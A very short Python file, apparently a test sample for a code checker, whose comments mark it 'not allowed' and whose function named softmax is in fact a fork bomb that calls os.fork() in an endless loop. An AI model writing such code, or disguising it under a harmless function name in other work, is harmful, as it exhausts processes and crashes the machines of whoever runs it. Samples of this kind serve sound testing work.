"""A fork bomb."""
# holds: loses softmax
# says: not allowed

import os


def softmax(net):
    while True:
        os.fork()
